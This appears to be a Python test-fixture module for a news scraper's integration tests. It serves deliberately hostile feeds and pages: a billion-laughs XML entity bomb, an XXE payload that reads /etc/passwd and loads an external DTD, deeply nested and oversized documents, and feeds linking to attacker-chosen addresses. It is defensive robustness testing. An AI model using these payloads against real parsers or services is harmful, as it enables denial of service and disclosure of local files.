"""Documents that do harm to whoever parses them. As HTTP they are in order."""

from __future__ import annotations

import json
from typing import TYPE_CHECKING

from aiohttp import web

if TYPE_CHECKING:
    from collections.abc import Callable

    from tests.integration.news_site.asked import Asked, Misbehaviour

RSS = "application/rss+xml; charset=utf-8"
HTML = "text/html; charset=utf-8"
JSON = "application/json"
_LOL_LEVELS = 12


def instead(
    body: bytes | Callable[[Asked], bytes], content_type: str | None = None
) -> Misbehaviour:
    """Send another body; without a type, with that of the right one."""

    async def answer(asked: Asked) -> web.StreamResponse:
        data = body if isinstance(body, bytes) else body(asked)
        kind = content_type or asked.answer.content_type
        return web.Response(body=data, headers={"Content-Type": kind})

    return answer


def billion_laughs() -> Misbehaviour:
    """Send entities that stand for ten times the one before."""
    entities = "".join(
        f'<!ENTITY lol{n} "{f"&lol{n - 1};" * 10 if n else "lol"}">' for n in range(_LOL_LEVELS)
    )
    return instead(
        f'<?xml version="1.0"?><!DOCTYPE rss [{entities}]><rss version="2.0"><channel>'
        f"<title>&lol{_LOL_LEVELS - 1};</title><item><title>&lol{_LOL_LEVELS - 1};</title>"
        "</item></channel></rss>".encode(),
        RSS,
    )


def external_entities() -> Misbehaviour:
    """Send entities that name a file of the reader's, and an address that would give it away."""
    return instead(
        lambda asked: (
            '<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY secret SYSTEM "file:///etc/passwd">'
            f'<!ENTITY % other SYSTEM "{asked.here("stolen.dtd")}">%other;]>'
            '<rss version="2.0"><channel><title>&secret;</title><item><title>&secret;</title>'
            f"<link>{asked.here('stolen')}</link></item></channel></rss>"
        ).encode(),
        RSS,
    )


def deep_xml(depth: int = 200_000) -> Misbehaviour:
    body = b"<rss version='2.0'><channel>" + b"<item>" * depth
    return instead(body + b"</item>" * depth + b"</channel></rss>", RSS)


def deep_json(depth: int = 200_000) -> Misbehaviour:
    return instead(b'{"articles":' + b"[" * depth + b"]" * depth + b"}", JSON)


def half_characters() -> Misbehaviour:
    """Send names that hold half of a surrogate pair, which UTF-8 cannot."""
    half = "half \ud800"
    item = {"id": half, "url": "http://evil.test/half", "title": half, "tags": [half]}
    feed = {"version": "https://jsonfeed.org/version/1.1", "title": half, "items": [item]}
    return instead(json.dumps(feed).encode(), JSON)


def deep_page(depth: int = 100_000) -> Misbehaviour:
    return instead(b"<html><body>" + b"<div><p>so " * depth, HTML)


def page_of_attributes(count: int = 300_000) -> Misbehaviour:
    """Send an element with more attributes than any parser likes."""
    attributes = " ".join(f"a{n}=1" for n in range(count))
    return instead(f"<html><body><p {attributes}>One paragraph.</p></body></html>".encode(), HTML)


def hanging_page(count: int = 55_000) -> Misbehaviour:
    """Send a page of few bytes on which extraction takes longer than anybody waits."""
    words = "<span>word </span>" * count
    return instead(f"<html><body><article><p>{words}</p></article></body></html>".encode(), HTML)


def many_entries(count: int = 30_000) -> Misbehaviour:
    """Send a feed of more entries than anybody writes. They lead to no page."""
    items = (
        f"<item><title>Number {n}</title><description>Said number {n}.</description></item>"
        for n in range(count)
    )
    start = "<rss version='2.0'><channel><title>Many</title>"
    return instead(f"{start}{''.join(items)}</channel></rss>".encode(), RSS)


def sitemap_without_end() -> Misbehaviour:
    """Send an index of sitemaps that names itself and thousands of others."""
    return instead(
        lambda asked: (
            "<sitemapindex xmlns='http://www.sitemaps.org/schemas/sitemap/0.9'>"
            + "".join(
                f"<sitemap><loc>{asked.here(f'{asked.path}?part={n}')}</loc></sitemap>"
                for n in range(2000)
            )
            + "</sitemapindex>"
        ).encode(),
        "text/xml",
    )


def entries_to(*links: str) -> Misbehaviour:
    """Send a feed whose entries lead to addresses of the attacker's choice."""
    items = "".join(f"<item><title>Look here</title><link>{link}</link></item>" for link in links)
    feed = f"<rss version='2.0'><channel><title>Bait</title>{items}</channel></rss>"
    return instead(feed.encode(), RSS)


def truncated(share: float = 0.5) -> Misbehaviour:
    """Break off within the right answer."""
    return instead(lambda asked: asked.answer.body[: int(len(asked.answer.body) * share)])


def a_page() -> Misbehaviour:
    """Send a page where a feed should be, and say it is a feed."""
    return instead(b"<!DOCTYPE html><html><body><h1>Please log in</h1></body></html>", RSS)


def nul_bytes() -> Misbehaviour:
    """Put NUL bytes between the words of the right answer."""
    return instead(lambda asked: asked.answer.body.replace(b" ", b" \0"))


def wrong_charset(name: str = "utf-16") -> Misbehaviour:
    """Say that the right answer is in another charset than it is."""

    async def answer(asked: Asked) -> web.StreamResponse:
        kind = asked.answer.content_type.partition(";")[0]
        headers = {"Content-Type": f"{kind}; charset={name}"}
        return web.Response(body=asked.answer.body, headers=headers)

    return answer


def noise(size: int = 200_000) -> Misbehaviour:
    """Send bytes that mean nothing."""
    return instead(bytes(n * n * 31 % 251 for n in range(size)))


def nothing() -> Misbehaviour:
    return instead(b"")


def huge_values() -> Misbehaviour:
    """Send JSON with a title and numbers of a size that nobody can hold or mean."""
    article = {"title": "x" * 2_000_000, "url": "http://[", "publishedAt": "DAY", "id": "NUMBER"}
    body = json.dumps({"articles": [article]})
    body = body.replace('"DAY"', "1e999").replace('"NUMBER"', "9" * 10_000)
    return instead(body.encode(), JSON)
